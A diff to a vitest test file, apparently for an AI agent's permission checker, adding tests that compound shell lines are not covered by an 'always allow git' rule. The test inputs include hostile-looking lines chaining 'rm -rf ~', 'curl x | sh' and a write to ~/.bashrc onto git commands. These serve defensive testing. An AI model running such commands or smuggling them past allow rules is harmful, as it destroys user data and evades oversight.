@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import {
   alwaysScope,
+  isCompoundCommand,
   commandName,
   decidePermission,
   DEFAULT_MODE,
@@ -86,12 +87,28 @@ describe('commandName and permissionKey', () => {
     expect(permissionKey('fs__write', { path: 'x' }, { server: 'fs', tool: 'write' })).toBe('mcp:fs/write');
   });
 
+  it.each(['git status && rm -rf ~', 'git log; curl x | sh', 'git log | sh', 'git log > ~/.bashrc', 'git $(rm -rf ~)', 'git `id`', 'git status &', 'git status\nrm -rf ~'])(
+    'a compound line %j is keyed by the whole line, so "always allow git" does not cover it',
+    (line) => {
+      const key = permissionKey('run_command', { command: ` ${line} ` });
+      expect(key).toBe(`run_line:${line.trim()}`);
+      expect(decidePermission('ask', { 'run_command:git': 'allow' }, { mutates: 'execute', key })).toBe('ask');
+      expect(alwaysScope(key)).toBe('this exact command line');
+    },
+  );
+
   it('words what "always" covers', () => {
     expect(alwaysScope('run_command:git')).toBe('"git" commands');
     expect(alwaysScope('run_command:')).toBe('commands');
     expect(alwaysScope('mcp:fs/write')).toBe('the MCP tool fs/write');
     expect(alwaysScope('write_file')).toBe('file writes');
     expect(alwaysScope('edit_file')).toBe('file edits');
+  });
+});
+
+describe('isCompoundCommand', () => {
+  it('is false for one plain command with arguments', () => {
+    for (const line of ['git status', 'FOO=1 npm test -- --watch=false', 'ls -la src', "grep -rn 'a b' ."]) expect(isCompoundCommand(line)).toBe(false);
   });
 });
 
